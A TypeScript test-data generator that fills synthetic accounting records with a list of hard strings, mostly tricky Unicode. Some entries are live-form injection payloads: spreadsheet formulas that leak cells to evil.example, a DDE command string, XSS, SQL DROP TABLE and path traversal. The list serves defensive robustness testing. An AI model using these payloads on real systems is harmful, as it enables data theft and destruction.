/** Texts that are legal in Xero and that break software: as names, references, descriptions, numbers and addresses. */
import { add } from './company.ts';
import type { Making } from './generate.ts';
import { addBankTransaction } from './generate-bank-transactions.ts';
import { addInvoice, payFrom } from './generate-invoices.ts';
import { TAX_TYPE } from './tax-rates.ts';

/** Each is a name of its own, though some differ from another only by case, by normal form or by what cannot be seen. */
export const HOSTILE_TEXTS = [
  'Crème Brûlée Café',
  // The same, decomposed.
  'Cre\u0300me Bru\u0302le\u0301e Cafe\u0301',
  'CRÈME BRÛLÉE CAFÉ',
  'crème brûlée café',
  'Crème Brûlée Café\u200b',
  'Crème Brûlée\u00a0Café',
  // Turkish: lower case of the first letter depends on the language.
  'İstanbul Işık Ltd',
  'Straße und STRASSE',
  // Letters that look Latin and are Cyrillic.
  'Асmе Соrр',
  // Right to left, with numbers and Latin inside, and marks that turn the direction.
  'مطعم 123 Grill (فرع 2)',
  'חשבונית ‎INV-7‎ סופית',
  '\u202eevil.exe\u202c ordinary',
  '\u2066isolated\u2069 and on',
  // Families and flags are several code points that belong together.
  '👩‍👩‍👧‍👦 & 👨🏽‍🚀 🏴󠁧󠁢󠁷󠁬󠁳󠁿 🇸🇬 Co',
  'Z\u0351\u036b\u0343a\u0363\u0368l\u0358g\u0321o\u0322 Services',
  'नमस्ते ஸ்ரீ ไทย ខ្មែរ',
  '𠜎𠜱𡿺 Astral Holdings',
  '\ufeffStarts with a byte order mark',
  'Soft\u00adhyphen and zero\u200bwidth\u200cjoiners\u200d',
  'Line\u2028separator and paragraph\u2029separator',
  'First line\r\nsecond line\rthird\nfourth\tafter a tab',
  '  \u3000 spaces all round \u2003',
  // Half of a pair, as cutting a text in the middle leaves it.
  'Half a parrot \ud83e',
  '=HYPERLINK("https://evil.example/?leak="&A1&B1,"Invoice")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
  "+1+cmd|' /C calc'!A0",
  '-1-1',
  '@SUM(A1:A9)',
  '\t=1+1',
  "'=1+1",
  '"quoted","comma;semicolon"|pipe',
  '<script>alert(1)</script>&amp;&#39;',
  '{{7*7}} %s %00 \\u0000 \\n',
  '../../etc/passwd',
  "Robert'); DROP TABLE invoices;--",
  'null',
  'undefined',
  'NaN',
  '#REF!',
  '1,234.50',
  '0x1F',
  '１２３', // Full-width digits.
  '12:30',
  '3/4',
  '∞',
];

/** A contact, an invoice, a bill and money spent for each, so that every text stands in every kind of field. */
export function addHostileTexts(making: Making): void {
  const { company, random, today, stamp } = making;
  const tax = TAX_TYPE[company.profile.countryCode];
  for (const [at, text] of HOSTILE_TEXTS.entries()) {
    const date = today - 3 - (at % 60);
    const contact = add(company, 'contacts', {
      updatedAt: stamp(date),
      name: text,
      firstName: at % 2 === 0 ? text.slice(0, 255) : null,
      lastName: at % 3 === 0 ? text.slice(0, 255) : null,
      email: '',
      number: `${at}${text}`.slice(0, 50),
      accountNumber: text.slice(0, 50),
      taxNumber: at % 4 === 0 ? text.slice(0, 50) : null,
      currency: null,
      street: text,
      city: text,
      phone: text.slice(0, 50),
      status: at % 9 === 8 ? 'ARCHIVED' : 'ACTIVE',
      isCustomer: true,
      isSupplier: true,
    });
    const line = (isSale: boolean) => ({
      description: text,
      quantity: 10_000,
      unit: random.between(1, 90_000) * 100,
      account: company.account(isSale ? 'sales' : 'general'),
      taxType: isSale ? tax.sales : tax.purchases,
    });
    const invoice = addInvoice(making, {
      type: 'ACCREC',
      contact,
      date,
      kind: 'Exclusive',
      status: at % 7 === 6 ? 'VOIDED' : 'AUTHORISED',
      number: `${at} ${text}`.slice(0, 255),
      reference: repeated(text, 255),
      // A text of 4,000, the longest that Xero takes, cut wherever it falls.
      lines: [line(true), { ...line(true), description: repeated(text, 4000) }, { description: text }],
    });
    addInvoice(making, {
      type: 'ACCPAY',
      contact,
      date,
      kind: 'Inclusive',
      status: at % 5 === 4 ? 'DELETED' : 'AUTHORISED',
      number: text,
      reference: null,
      lines: [line(false)],
    });
    if (invoice.status === 'AUTHORISED' && at % 3 === 0) {
      payFrom(company, invoice, {
        amount: 1 + at,
        date,
        updatedAt: stamp(date),
        isReconciled: false,
        reference: text,
      });
    }
    addBankTransaction(company, {
      type: 'SPEND',
      account: company.account('cheque'),
      contact: contact.index,
      date,
      reference: text,
      kind: 'Inclusive',
      lines: [line(false)],
      updatedAt: stamp(date),
      isReconciled: true,
    });
  }
}

const repeated = (text: string, length: number) =>
  text.repeat(Math.ceil(length / text.length)).slice(0, length);
